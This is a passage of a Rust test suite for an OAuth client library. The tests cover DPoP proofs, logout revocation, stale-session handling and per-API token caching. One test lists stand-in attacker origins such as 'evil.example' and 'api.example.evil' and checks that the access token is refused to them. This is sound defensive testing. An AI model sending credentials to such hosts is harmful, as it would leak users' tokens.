            Some(((NOW + 3_590_000) / 1000) as f64)
        );
    }

    #[test]
    fn a_bearer_answer_to_a_dpop_refresh_is_refused() {
        let h = dpop_harness();
        let (_, state, nonce) = start(&h);
        h.http.answer(200, &dpop_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        h.clock.set(NOW + 3_600_000 - 10_000);
        h.http.answer(
            200,
            r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600}"#,
        );
        let e = block_on(h.client.access_token(30, false)).unwrap_err();
        assert_eq!(e.code(), "invalid_response");
    }

    #[test]
    fn pushed_authorization_requests_carry_a_proof_and_the_thumbprint() {
        let h = harness_with(AuthClientOptions {
            dpop: Some(true),
            use_par: Some(true),
            ..options()
        });
        let par = format!("{ISSUER}/api/v1/oauth/par");
        h.http.answer_at(
            &par,
            201,
            r#"{"request_uri":"urn:ietf:params:oauth:request_uri:x","expires_in":60}"#,
        );
        block_on(h.client.start_login(&LoginRequest::default(), None)).unwrap();
        let sent = h.http.sent();
        assert_eq!(sent[0].url, par);
        let form = parse_pairs(sent[0].form.as_deref().unwrap()).unwrap();
        assert_eq!(find(&form, "dpop_jkt"), Some(JKT));
        let (_, claims) = proof(&sent[0]);
        assert_eq!(claims["htu"], par.as_str());
    }

    #[test]
    fn userinfo_sends_the_dpop_token_with_a_proof_of_its_hash() {
        let h = dpop_harness();
        let (_, state, nonce) = start(&h);
        h.http.answer(200, &dpop_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        h.http.answer_with_nonce(USERINFO_URL, 401, "", "rs-1");
        h.http
            .answer_at(USERINFO_URL, 200, r#"{"sub":"urn:xeonr:user:alice"}"#);
        block_on(h.client.userinfo()).unwrap();
        let sent = h.http.sent();
        let (first, second) = (&sent[1], &sent[2]);
        assert_eq!(second.bearer.as_deref(), Some("AT-1"));
        let (_, claims) = proof(second);
        assert_eq!(claims["htm"], "GET");
        assert_eq!(claims["nonce"], "rs-1");
        assert_eq!(
            claims["ath"].as_str(),
            Some(wasm_oauth::core::dpop::ath(&AccessToken::new("AT-1")).as_str())
        );
        assert!(proof(first).1.get("nonce").is_none());
    }

    #[test]
    fn implicit_login_is_refused_with_dpop() {
        let h = dpop_harness();
        let e = block_on(
            h.client
                .start_login(&LoginRequest::default(), Some(ImplicitType::IdTokenToken)),
        )
        .unwrap_err();
        assert_eq!(e.code(), "invalid_options");
        assert!(h.http.sent().is_empty());
    }

    #[test]
    fn a_session_bound_to_a_lost_key_ends_with_login_required() {
        let h = dpop_harness();
        let (_, state, nonce) = start(&h);
        h.http.answer(200, &dpop_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-1");
        // IndexedDB lost the key; a new one was made: the tokens are bound to the old one.
        h.dpop.replaced.set(true);
        let e = block_on(h.client.access_token(30, false)).unwrap_err();
        assert_eq!(e.code(), "login_required");
        assert!(h.client.tokens().is_none(), "the session is cleared");
        assert!(h.events.borrow().iter().any(|e| e == "logout"));
        assert_eq!(
            h.http.sent().len(),
            1,
            "no refresh with a key the server never saw"
        );
    }

    #[test]
    fn logout_revocation_is_proved_by_the_sessions_key_with_the_nonce_retry() {
        let h = dpop_harness();
        let (_, state, nonce) = start(&h);
        h.http.answer(200, &dpop_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        h.http.answer_with_nonce(REVOKE_URL, 400, USE_NONCE, "rv-1");
        h.http.answer_at(REVOKE_URL, 200, "");
        h.http.answer_at(REVOKE_URL, 200, "");
        block_on(h.client.logout(true, None)).unwrap();
        assert!(h.events.borrow().iter().all(|e| !e.starts_with("error")));
        let revocations: Vec<HttpRequest> = h
            .http
            .sent()
            .into_iter()
            .filter(|r| r.url == REVOKE_URL)
            .collect();
        let hints: Vec<String> = revocations
            .iter()
            .map(|r| {
                let form = parse_pairs(r.form.as_deref().unwrap()).unwrap();
                find(&form, "token_type_hint").unwrap().to_string()
            })
            .collect();
        assert_eq!(hints, ["refresh_token", "refresh_token", "access_token"]);
        for r in &revocations {
            let (header, claims) = proof(r);
            // The key the tokens are bound to, not the one made after its deletion.
            assert_eq!(
                header["jwk"]["x"],
                "l8tFrhx-34tV3hRICRDY9zCkDlpBhF42UQUfWVAWBFs"
            );
            assert_eq!(claims["htm"], "POST");
            assert_eq!(claims["htu"], REVOKE_URL);
            assert!(claims.get("ath").is_none());
            assert!(r.bearer.is_none());
        }
        assert!(proof(&revocations[0]).1.get("nonce").is_none());
        assert_eq!(proof(&revocations[1]).1["nonce"], "rv-1");
        assert_eq!(proof(&revocations[2]).1["nonce"], "rv-1");
        assert_eq!(h.dpop.deleted.get(), 1, "deleted once revoked");
    }

    #[test]
    fn without_dpop_revocation_carries_no_proof() {
        let h = harness();
        let (_, state, nonce) = start(&h);
        h.http.answer(200, &token_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        h.http.answer_at(REVOKE_URL, 200, "");
        h.http.answer_at(REVOKE_URL, 200, "");
        block_on(h.client.logout(true, None)).unwrap();
        assert_eq!(h.http.count_to(REVOKE_URL), 2);
        assert!(h.http.sent().iter().all(|r| r.dpop.is_none()));
    }

    /// The storage key `name` of the test client.
    fn key(name: &str) -> String {
        format!("{KEY_PREFIX}{CLIENT_ID}:{name}")
    }

    /// A stored session as `token_type` and `dpop-jkt` describe it, with a
    /// valid access token, in a client with `dpop` as given.
    fn stored_session(
        dpop: bool,
        token_type: &str,
        jkt: Option<&str>,
    ) -> (Harness, Rc<RefCell<Vec<String>>>) {
        let f = fakes();
        let lines = f.log.lines.clone();
        let options = AuthClientOptions {
            dpop: Some(dpop),
            ..options()
        };
        let h = harness_on(options, f);
        let stored = format!(
            r#"{{"v":1,"access_token":"AT-0","token_type":"{token_type}","refresh_token":"RT-0","expires_at":{}}}"#,
            NOW + 3_600_000
        );
        h.storage.set(&key("tokens"), &stored).unwrap();
        if let Some(jkt) = jkt {
            h.storage.set(&key("dpop-jkt"), jkt).unwrap();
        }
        assert!(h.client.tokens().is_some(), "the stored set reads");
        (h, lines)
    }

    /// The session is ended with `login_required` and a `warn` line, and
    /// nothing was sent.
    fn dropped((h, lines): &(Harness, Rc<RefCell<Vec<String>>>)) {
        let e = block_on(h.client.access_token(30, false)).unwrap_err();
        assert_eq!(e.code(), "login_required");
        assert!(h.client.tokens().is_none(), "the session is cleared");
        assert!(h.storage.get(&key("dpop-jkt")).is_none());
        assert!(h.events.borrow().iter().any(|e| e == "logout"));
        assert!(h.http.sent().is_empty(), "the token went nowhere");
        let lines = lines.borrow();
        assert!(
            lines
                .iter()
                .any(|l| l.starts_with("warn ") && l.contains("dpop")),
            "{lines:?}"
        );
    }

    #[test]
    fn a_bearer_session_stored_before_dpop_was_switched_on_is_dropped() {
        dropped(&stored_session(true, "Bearer", None));
        // Even beside a thumbprint (left by an earlier DPoP session).
        dropped(&stored_session(true, "Bearer", Some(JKT)));
    }

    #[test]
    fn a_dpop_session_without_the_thumbprint_of_its_key_is_dropped() {
        dropped(&stored_session(true, "DPoP", None));
    }

    #[test]
    fn a_dpop_session_loaded_with_dpop_off_is_dropped() {
        dropped(&stored_session(false, "DPoP", Some(JKT)));
        dropped(&stored_session(false, "DPoP", None));
    }

    #[test]
    fn sessions_that_fit_the_option_are_kept() {
        for (h, _) in [
            stored_session(true, "DPoP", Some(JKT)),
            stored_session(false, "Bearer", None),
        ] {
            assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-0");
            assert!(h.client.tokens().is_some());
        }
    }

    /// The RFC 7638 thumbprint of the key in a proof's header.
    fn thumbprint_in(request: &HttpRequest) -> String {
        let jwk = &proof(request).0["jwk"];
        wasm_oauth::core::dpop::jwk_thumbprint(&format!(
            r#"{{"crv":"P-256","kty":"EC","x":{},"y":{}}}"#,
            jwk["x"], jwk["y"]
        ))
    }

    /// The `x` of the key that proved each request to `url`, in order.
    fn keys_proving(h: &Harness, url: &str) -> Vec<String> {
        h.http
            .sent()
            .iter()
            .filter(|r| r.url == url)
            .map(|r| proof(r).0["jwk"]["x"].as_str().unwrap().to_string())
            .collect()
    }

    /// The `x` of the key a session signed in before is bound to.
    const FIRST_KEY: &str = "l8tFrhx-34tV3hRICRDY9zCkDlpBhF42UQUfWVAWBFs";

    fn dpop_signed_in(h: &Harness) {
        signed_in_with(h, &dpop_body, "C1");
    }

    #[test]
    fn a_logout_during_a_refresh_revokes_its_leftovers_with_the_key_they_are_bound_to() {
        let h = dpop_harness();
        dpop_signed_in(&h);
        h.clock.set(NOW + 3_600_000); // expired: getAccessToken refreshes
        h.http.answer(
            200,
            r#"{"access_token":"AT-2","token_type":"DPoP","expires_in":3600,"refresh_token":"RT-2"}"#,
        );
        h.http.gate.set(true);
        let mut refresh = Box::pin(h.client.access_token(30, false));
        let mut cx = Context::from_waker(Waker::noop());
        assert!(refresh.as_mut().poll(&mut cx).is_pending());
        // The logout revokes the session's own tokens (RT-1, AT-1), then the
        // refresh's answer brings RT-2 and AT-2, which belong to no session.
        for _ in 0..4 {
            h.http.answer_at(REVOKE_URL, 200, "");
        }
        let mut logout = Box::pin(h.client.logout(true, None));
        assert!(logout.as_mut().poll(&mut cx).is_pending());
        h.http.gate.set(false);
        poll_ready(&mut logout).unwrap();
        assert_eq!(
            poll_ready(&mut refresh).unwrap_err().code(),
            "login_required"
        );
        assert_eq!(revoked(&h).len(), 4, "{:?}", revoked(&h));
        // Every token was issued bound to the first key: each revocation
        // proves that key, never one made after the logout.
        assert_eq!(keys_proving(&h, REVOKE_URL), [FIRST_KEY; 4]);
        assert!(h.client.tokens().is_none());
    }

    #[test]
    fn a_login_started_while_logout_revokes_keeps_its_key_through_the_exchange() {
        let h = dpop_harness();
        dpop_signed_in(&h);
        h.http.answer_at(REVOKE_URL, 200, "");
        h.http.answer_at(REVOKE_URL, 200, "");
        h.http.gate.set(true);
        let mut logout = Box::pin(h.client.logout(true, None));
        let mut cx = Context::from_waker(Waker::noop());
        assert!(
            logout.as_mut().poll(&mut cx).is_pending(),
            "revocation in flight"
        );
        // A new login starts meanwhile: it names its key (dpop_jkt).
        let (params, state, nonce) = start(&h);
        let jkt = find(&params, "dpop_jkt").unwrap().to_string();
        h.http.gate.set(false);
        poll_ready(&mut logout).unwrap();
        // The logout's revocations proved the old session's key.
        assert_eq!(keys_proving(&h, REVOKE_URL), [FIRST_KEY; 2]);
        // The exchange proves the key the login named, which survived the logout.
        h.http.answer(200, &dpop_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C2&state={state}")).unwrap();
        let exchange = h
            .http
            .sent()
            .into_iter()
            .rev()
            .find(|r| r.url == TOKEN_URL)
            .unwrap();
        assert_eq!(thumbprint_in(&exchange), jkt);
        assert_ne!(jkt, JKT, "a new key for the new session");
        assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-1");
        assert_eq!(
            h.storage.get(&key("dpop-jkt")).as_deref(),
            Some(jkt.as_str())
        );
    }

    #[test]
    fn a_session_whose_thumbprint_the_storage_refused_stays_usable_in_memory() {
        let full = FullStorage::default();
        let f = fakes();
        let (http, events) = (f.http.clone(), f.events.0.clone());
        let options = AuthClientOptions {
            dpop: Some(true),
            ..options()
        };
        let c = Client::new(
            Config::from_options(options, &WhatwgUrl).unwrap(),
            f.with_storage(full.clone()),
        );
        let (_, state, nonce) = start_on(&c);
        // The storage is full by the time the tokens come back (quota).
        full.full.set(true);
        http.answer(200, &dpop_body(&good_id_token(&nonce)));
        block_on(c.handle_callback(&format!("{REDIRECT}?code=C1&state={state}"))).unwrap();
        // The app is told; the session is kept in this page's memory, with its
        // binding, and goes on being used.
        let refused = |events: &[String]| {
            events
                .iter()
                .filter(|e| *e == "error:storage_unavailable")
                .count()
        };
        assert_eq!(refused(&events.borrow()), 1, "one report for the save");
        assert_eq!(block_on(c.access_token(30, false)).unwrap(), "AT-1");
        assert!(c.tokens().is_some());
        http.answer(
            200,
            r#"{"access_token":"AT-2","token_type":"DPoP","expires_in":3600,"refresh_token":"RT-2"}"#,
        );
        assert_eq!(block_on(c.access_token(30, true)).unwrap(), "AT-2");
        assert!(
            !events.borrow().iter().any(|e| e == "logout"),
            "{:?}",
            events.borrow()
        );
        // Logging out forgets the binding with the session.
        http.answer_at(REVOKE_URL, 200, "");
        http.answer_at(REVOKE_URL, 200, "");
        block_on(c.logout(true, None)).unwrap();
        full.full.set(false);
        assert!(c.tokens().is_none());
    }

    #[test]
    fn logout_deletes_the_key() {
        let h = dpop_harness();
        let (_, state, nonce) = start(&h);
        h.http.answer(200, &dpop_body(&good_id_token(&nonce)));
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        block_on(h.client.logout(false, None)).unwrap();
        assert_eq!(h.dpop.deleted.get(), 1);
        let plain = harness();
        block_on(plain.client.logout(false, None)).unwrap();
        assert_eq!(plain.dpop.deleted.get(), 0);
    }
}

mod api_fetch {
    //! `auth.fetch`: the token goes only to `apiOrigins`; nonce and invalid_token retries.
    use super::*;
    use wasm_oauth::client::{ApiAnswer, ApiCredentials};

    const API: &str = "https://api.example/v1/me?x=1";

    fn api_harness(dpop: bool) -> Harness {
        let h = harness_with(AuthClientOptions {
            dpop: Some(dpop),
            api_origins: Some(vec!["https://api.example".into()]),
            ..options()
        });
        let (_, state, nonce) = start(&h);
        let body = token_body(&good_id_token(&nonce));
        let body = if dpop {
            body.replace("\"Bearer\"", "\"DPoP\"")
        } else {
            body
        };
        h.http.answer(200, &body);
        callback(&h, &format!("{REDIRECT}?code=C1&state={state}")).unwrap();
        h
    }

    /// One scripted answer: status, `WWW-Authenticate`, `DPoP-Nonce`.
    type Scripted = (u16, Option<&'static str>, Option<&'static str>);

    /// A scripted API: answers in order, records what each attempt carried.
    struct FakeApi {
        answers: RefCell<Vec<Scripted>>,
        sent: RefCell<Vec<(String, Option<String>)>>,
    }

    impl FakeApi {
        fn new(answers: &[Scripted]) -> Self {
            FakeApi {
                answers: RefCell::new(answers.to_vec()),
                sent: RefCell::new(Vec::new()),
            }
        }
        async fn send(&self, c: ApiCredentials) -> Result<ApiAnswer<u16>, AuthError> {
            self.sent.borrow_mut().push((c.authorization, c.dpop));
            let (status, challenge, nonce) = self.answers.borrow_mut().remove(0);
            Ok(ApiAnswer {
                status,
                www_authenticate: challenge.map(str::to_string),
                dpop_nonce: nonce.map(str::to_string),
                response: status,
            })
        }
    }

    fn fetch(h: &Harness, api: &FakeApi, url: &str, replayable: bool) -> Result<u16, AuthError> {
        block_on(h.client.api_fetch("GET", url, replayable, |c| api.send(c)))
    }

    fn claims(proof: &str) -> serde_json::Value {
        use base64::Engine;
        let part = proof.split('.').nth(1).unwrap();
        let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
        serde_json::from_slice(&b64.decode(part).unwrap()).unwrap()
    }

    const NONCE: &str = r#"DPoP error="use_dpop_nonce", error_description="nonce""#;
    const INVALID: &str = r#"DPoP error="invalid_token""#;

    #[test]
    fn a_bearer_token_goes_to_an_allowed_origin() {
        let h = api_harness(false);
        let api = FakeApi::new(&[(200, None, None)]);
        assert_eq!(fetch(&h, &api, API, true).unwrap(), 200);
        assert_eq!(api.sent.borrow()[0], ("Bearer AT-1".to_string(), None));
    }

    #[test]
    fn any_other_origin_is_refused_before_anything_is_sent() {
        let h = api_harness(false);
        let api = FakeApi::new(&[]);
        for url in [
            "https://evil.example/v1/me",
            "https://api.example:444/",
            "http://api.example/",
            "https://api.example.evil/",
            "not a url",
        ] {
            let e = fetch(&h, &api, url, true).unwrap_err();
            assert_eq!(e.code(), "invalid_options", "{url}");
        }
        assert!(api.sent.borrow().is_empty());
    }

    #[test]
    fn a_dpop_token_goes_with_a_proof_of_method_url_and_token() {
        let h = api_harness(true);
        let api = FakeApi::new(&[(200, None, None)]);
        fetch(&h, &api, API, true).unwrap();
        let (authorization, proof) = api.sent.borrow()[0].clone();
        assert_eq!(authorization, "DPoP AT-1");
        let c = claims(&proof.unwrap());
        assert_eq!(c["htm"], "GET");
        assert_eq!(c["htu"], "https://api.example/v1/me");
        assert_eq!(
            c["ath"].as_str(),
            Some(wasm_oauth::core::dpop::ath(&AccessToken::new("AT-1")).as_str())
        );
    }

    #[test]
    fn use_dpop_nonce_is_retried_once_with_the_apis_nonce() {
        let h = api_harness(true);
        let api = FakeApi::new(&[(401, Some(NONCE), Some("api-n1")), (200, None, None)]);
        assert_eq!(fetch(&h, &api, API, true).unwrap(), 200);
        let sent = api.sent.borrow();
        assert_eq!(sent.len(), 2);
        assert_eq!(claims(sent[1].1.as_deref().unwrap())["nonce"], "api-n1");
        // The API's nonce is kept for its origin, not sent to the token endpoint.
        let api2 = FakeApi::new(&[(200, None, None)]);
        fetch(&h, &api2, API, true).unwrap();
        assert_eq!(
            claims(api2.sent.borrow()[0].1.as_deref().unwrap())["nonce"],
            "api-n1"
        );

        let again = FakeApi::new(&[
            (401, Some(NONCE), Some("n2")),
            (401, Some(NONCE), Some("n3")),
        ]);
        assert_eq!(
            fetch(&h, &again, API, true).unwrap(),
            401,
            "one retry, then the answer"
        );
        assert_eq!(again.sent.borrow().len(), 2);
    }

    #[test]
    fn invalid_token_refreshes_once_and_retries_once() {
        let h = api_harness(false);
        h.http.answer(
            200,
            r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
        );
        let api = FakeApi::new(&[
            (401, Some(r#"Bearer error="invalid_token""#), None),
            (200, None, None),
        ]);
        assert_eq!(fetch(&h, &api, API, true).unwrap(), 200);
        let sent = api.sent.borrow();
        assert_eq!(sent[1].0, "Bearer AT-2");
        let form = parse_pairs(h.http.sent()[1].form.as_deref().unwrap()).unwrap();
        assert_eq!(find(&form, "grant_type"), Some("refresh_token"));
    }

    #[test]
    fn a_dpop_invalid_token_refreshes_once_then_gives_the_answer() {
        let h = api_harness(true);
        h.http.answer(
            200,
            r#"{"access_token":"AT-2","token_type":"DPoP","expires_in":3600,"refresh_token":"RT-2"}"#,
        );
        let api = FakeApi::new(&[(401, Some(INVALID), None), (401, Some(INVALID), None)]);
        assert_eq!(fetch(&h, &api, API, true).unwrap(), 401);
        assert_eq!(api.sent.borrow().len(), 2);
        assert_eq!(h.http.sent().len(), 2, "one exchange, one refresh");
    }

    #[test]
    fn a_stream_body_is_never_sent_twice() {
        let h = api_harness(true);
        let api = FakeApi::new(&[(401, Some(NONCE), Some("n1"))]);
        let e = fetch(&h, &api, API, false).unwrap_err();
        assert_eq!(e.code(), "invalid_options");
        assert!(e.message().contains("stream"));
        assert_eq!(api.sent.borrow().len(), 1);
    }

    #[test]
    fn a_token_near_expiry_is_refreshed_before_the_call() {
        let h = api_harness(false);
        h.clock.set(NOW + 3_600_000 - 10_000);
        h.http.answer(
            200,
            r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
        );
        let api = FakeApi::new(&[(200, None, None)]);
        fetch(&h, &api, API, true).unwrap();
        assert_eq!(api.sent.borrow()[0].0, "Bearer AT-2");
    }

    #[test]
    fn without_a_session_it_is_login_required() {
        let h = harness_with(AuthClientOptions {
            api_origins: Some(vec!["https://api.example".into()]),
            ..options()
        });
        let api = FakeApi::new(&[]);
        assert_eq!(
            fetch(&h, &api, API, true).unwrap_err().code(),
            "login_required"
        );
    }
}

// ---- Tokens per API (RFC 8707): getAccessToken({ resource, scope }) ----

const API_A: &str = "https://api-a.example/";
const API_B: &str = "urn:example:api-b";

/// What a `getAccessToken` call settles with.
type TokenResult = Result<AccessToken, AuthError>;

/// `getAccessToken({ resource, scope })` with the default margin.
fn api_token(h: &Harness, resource: &str, scope: Option<&str>) -> Result<AccessToken, AuthError> {
    block_on(
        h.client
            .access_token_for(Some(resource.into()), scope.map(str::to_string), 30, false),
    )
}

fn answer_api(h: &Harness, access_token: &str, expires_in: u32, refresh_token: Option<&str>) {
    let rt = refresh_token.map_or(String::new(), |r| format!(r#","refresh_token":"{r}""#));
    h.http.answer(
        200,
        &format!(
            r#"{{"access_token":"{access_token}","token_type":"Bearer","expires_in":{expires_in},"scope":"read"{rt}}}"#
        ),
    );
}

/// The form of the `n`th request sent (the JWKS fetches left out).
fn form_of(h: &Harness, n: usize) -> Vec<(String, String)> {
    parse_pairs(h.http.sent()[n].form.as_deref().unwrap()).unwrap()
}

fn api_keys(h: &Harness) -> Vec<String> {
    h.storage
        .keys_with_prefix(&format!("{KEY_PREFIX}{CLIENT_ID}:api:"))
}

fn session_refresh_token(h: &Harness) -> String {
    h.client
        .tokens()
        .unwrap()
        .refresh_token
        .unwrap()
        .secret()
        .to_string()
}

#[test]
fn api_tokens_are_asked_for_with_the_refresh_token_and_cached_per_resource_and_scope() {
    let h = harness();
    signed_in(&h);
    answer_api(&h, "AT-A", 3600, Some("RT-2"));
    assert_eq!(api_token(&h, API_A, Some("read")).unwrap(), "AT-A");
    let form = form_of(&h, 1);
    assert_eq!(find(&form, "grant_type"), Some("refresh_token"));
    assert_eq!(find(&form, "refresh_token"), Some("RT-1"));
    assert_eq!(find(&form, "client_id"), Some(CLIENT_ID));
    assert_eq!(find(&form, "resource"), Some(API_A));
    assert_eq!(find(&form, "scope"), Some("read"));

    // Another resource: its own request, with the refresh token the first rotated.
    answer_api(&h, "AT-B", 3600, Some("RT-3"));
    assert_eq!(api_token(&h, API_B, Some("read")).unwrap(), "AT-B");
    assert_eq!(find(&form_of(&h, 2), "refresh_token"), Some("RT-2"));
    assert_eq!(find(&form_of(&h, 2), "resource"), Some(API_B));

    // Both are served from their entries now; the same scope in another
    // order or with repeats is the same entry.
    let sent = h.http.sent().len();
    assert_eq!(api_token(&h, API_A, Some("read")).unwrap(), "AT-A");
    assert_eq!(api_token(&h, API_A, Some(" read  read")).unwrap(), "AT-A");
    assert_eq!(api_token(&h, API_B, Some("read")).unwrap(), "AT-B");
    assert_eq!(h.http.sent().len(), sent, "served from the cache");

    // Another scope for the same resource is another token.
    answer_api(&h, "AT-A-RW", 3600, None);
    assert_eq!(api_token(&h, API_A, Some("write read")).unwrap(), "AT-A-RW");
    assert_eq!(find(&form_of(&h, sent), "scope"), Some("read write"));
    assert_eq!(find(&form_of(&h, sent), "refresh_token"), Some("RT-3"));
    assert_eq!(api_token(&h, API_A, Some("read")).unwrap(), "AT-A");

    // The session's own token is untouched; its refresh token is the newest.
    assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-1");
    assert_eq!(session_refresh_token(&h), "RT-3");
    assert_eq!(api_keys(&h).len(), 3);
    for key in api_keys(&h) {
        let entry = h.storage.get(&key).unwrap();
        assert!(!entry.contains("RT-"), "no refresh token in {key}");
    }
}

#[test]
fn without_resource_and_scope_get_access_token_is_the_sessions_own() {
    let h = harness();
    signed_in(&h);
    let token = block_on(h.client.access_token_for(None, None, 30, false)).unwrap();
    assert_eq!(token, "AT-1");
    assert_eq!(h.http.sent().len(), 1, "no request");
    assert!(api_keys(&h).is_empty());
}

#[test]
fn each_api_token_has_its_own_expiry() {
    let h = harness();
    signed_in(&h);
    answer_api(&h, "AT-A", 60, None);
    answer_api(&h, "AT-B", 3600, None);
    api_token(&h, API_A, None).unwrap();
    api_token(&h, API_B, None).unwrap();
    assert!(find(&form_of(&h, 1), "scope").is_none(), "no scope asked");
    // 31 s later A has less than the 30 s margin left; B and the session do not.
    h.clock.set(NOW + 31_000);
    answer_api(&h, "AT-A-2", 60, None);
    let sent = h.http.sent().len();
    assert_eq!(api_token(&h, API_A, None).unwrap(), "AT-A-2");
    assert_eq!(api_token(&h, API_B, None).unwrap(), "AT-B");
    assert_eq!(block_on(h.client.access_token(30, false)).unwrap(), "AT-1");
    assert_eq!(h.http.sent().len(), sent + 1, "A alone was asked for again");
    // minValiditySeconds and forceRefresh apply per API, too.
    answer_api(&h, "AT-B-2", 3600, None);
    let b = block_on(
        h.client
            .access_token_for(Some(API_B.into()), None, 3600, false),
    );
    assert_eq!(b.unwrap(), "AT-B-2");
    answer_api(&h, "AT-B-3", 3600, None);
    let b = block_on(
        h.client
            .access_token_for(Some(API_B.into()), None, 30, true),
    );
    assert_eq!(b.unwrap(), "AT-B-3");
}

#[test]
fn a_refresh_token_rotated_for_an_api_is_what_the_session_refresh_sends_next() {
    let h = harness();
    signed_in(&h);
    answer_api(&h, "AT-A", 3600, Some("RT-2"));
    api_token(&h, API_A, None).unwrap();
    // Handed to the other tabs with the session's set.
    let Published::Tokens(published) = h.tabs.latest_published() else {
        panic!("the rotation was not published");
    };
    assert!(published.contains("RT-2") && published.contains("AT-1"));
    assert!(h
        .events
        .borrow()
        .last()
        .is_some_and(|e| e.starts_with("tokens:")));

    // Another tab whose storage has not caught up yet (Chromium's late
    // localStorage copy): the same access token with the spent refresh
    // token. What was published wins over it.
    let key = format!("{KEY_PREFIX}{CLIENT_ID}:tokens");
    let spent = h.storage.get(&key).unwrap().replace("RT-2", "RT-1");
    h.storage.set(&key, &spent).unwrap();
    assert_eq!(session_refresh_token(&h), "RT-2");

    h.http.answer(
        200,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-3"}"#,
    );
    assert_eq!(block_on(h.client.access_token(30, true)).unwrap(), "AT-2");
    assert_eq!(find(&form_of(&h, 2), "refresh_token"), Some("RT-2"));
    // And the other way round: the session's rotation is what the next API request sends.
    answer_api(&h, "AT-B", 3600, None);
    api_token(&h, API_B, None).unwrap();
    assert_eq!(find(&form_of(&h, 3), "refresh_token"), Some("RT-3"));
    assert_eq!(session_refresh_token(&h), "RT-3", "kept when not rotated");
}

#[test]
fn a_session_refresh_and_api_requests_at_once_never_send_one_refresh_token_twice() {
    let h = harness();
    signed_in(&h);
    h.clock.set(NOW + 3_600_000); // the session's token expired
    h.http.answer(
        200,
        r#"{"access_token":"AT-2","token_type":"Bearer","expires_in":3600,"refresh_token":"RT-2"}"#,
    );
    answer_api(&h, "AT-A", 3600, Some("RT-3"));
    answer_api(&h, "AT-B", 3600, Some("RT-4"));
    h.http.gate.set(true);
    let mut cx = Context::from_waker(Waker::noop());
    let mut calls: Vec<Pin<Box<dyn Future<Output = TokenResult> + '_>>> = vec![
        Box::pin(h.client.access_token(30, false)),
        Box::pin(
            h.client
                .access_token_for(Some(API_A.into()), None, 30, false),
        ),
        Box::pin(
            h.client
                .access_token_for(Some(API_A.into()), None, 30, false),
        ),
        Box::pin(
            h.client
                .access_token_for(Some(API_B.into()), None, 30, false),
        ),
    ];
    for c in calls.iter_mut() {
        assert!(c.as_mut().poll(&mut cx).is_pending());
    }
    assert_eq!(
        h.http.sent().len(),
        2,
        "one request in flight, the rest wait their turn"
    );
    h.http.gate.set(false);
    let mut results = Vec::new();
    for c in calls.iter_mut() {
        results.push(block_on(c.as_mut()).unwrap().secret().to_string());
    }
    assert_eq!(results, ["AT-2", "AT-A", "AT-A", "AT-B"]);
    let sent: Vec<_> = (1..h.http.sent().len())
        .map(|n| find(&form_of(&h, n), "refresh_token").unwrap().to_string())
        .collect();
    assert_eq!(
        sent,
        ["RT-1", "RT-2", "RT-3"],
        "each refresh token sent once"
    );
    assert_eq!(session_refresh_token(&h), "RT-4");
}

#[test]
fn a_corrupt_or_foreign_api_token_entry_is_removed_never_a_crash() {
    let h = harness();
    signed_in(&h);
    answer_api(&h, "AT-A", 3600, None);
    api_token(&h, API_A, Some("read")).unwrap();
    let key = api_keys(&h).pop().unwrap();
    let good = h.storage.get(&key).unwrap();
    let long = format!(
        r#"{{"v":1,"access_token":"{}","token_type":"Bearer"}}"#,
        "a".repeat(20_000)
    );
    for corrupt in [
        "not json".to_string(),
        "[]".into(),
        r#"{"v":2,"access_token":"AT-X","token_type":"Bearer"}"#.into(),
        good.replace(r#""token_type""#, r#""refresh_token":"RT-X","token_type""#),
        good.replace("AT-A", "AT-\nX"),
        long,
    ] {
        h.storage.set(&key, &corrupt).unwrap();
        let sent = h.http.sent().len();
        answer_api(&h, "AT-A2", 3600, None);
        assert_eq!(
            api_token(&h, API_A, Some("read")).unwrap(),
            "AT-A2",
            "{corrupt:.40}"
        );
        assert_eq!(h.http.sent().len(), sent + 1);
        assert!(!h.storage.get(&key).unwrap().contains("AT-X"));
    }
    // A corrupt entry of another API is dropped when an entry is written.
    let other = key.replace("read", "write");
    h.storage.set(&other, "{").unwrap();
    answer_api(&h, "AT-B", 3600, None);
    api_token(&h, API_B, None).unwrap();
    assert!(h.storage.get(&other).is_none());
}

#[test]
fn logout_clears_every_api_token_and_revokes_each_when_asked() {
    for revoke in [true, false] {
        let h = harness();
        signed_in(&h);
        answer_api(&h, "AT-A", 3600, None);
        answer_api(&h, "AT-B", 3600, None);
        api_token(&h, API_A, None).unwrap();
        api_token(&h, API_B, Some("read")).unwrap();
        assert_eq!(api_keys(&h).len(), 2);
        let before = h.http.sent().len();
        if revoke {
            for _ in 0..4 {
                h.http.answer_at(REVOKE_URL, 200, "");
            }
        }
        block_on(h.client.logout(revoke, None)).unwrap();
        assert!(api_keys(&h).is_empty(), "revoke: {revoke}");
        let revoked: Vec<_> = (before..h.http.sent().len())
            .map(|n| find(&form_of(&h, n), "token").unwrap().to_string())
            .collect();
        if revoke {
            assert_eq!(revoked[..2], ["RT-1", "AT-1"]);
            let mut apis = revoked[2..].to_vec();
            apis.sort();
            assert_eq!(apis, ["AT-A", "AT-B"]);
        } else {
            assert!(revoked.is_empty());
        }
        let e = api_token(&h, API_A, None).unwrap_err();
        assert_eq!(e.code(), "login_required");
    }
}

#[test]
fn a_new_login_serves_no_api_token_of_the_session_before() {
    let h = harness();
    signed_in(&h);
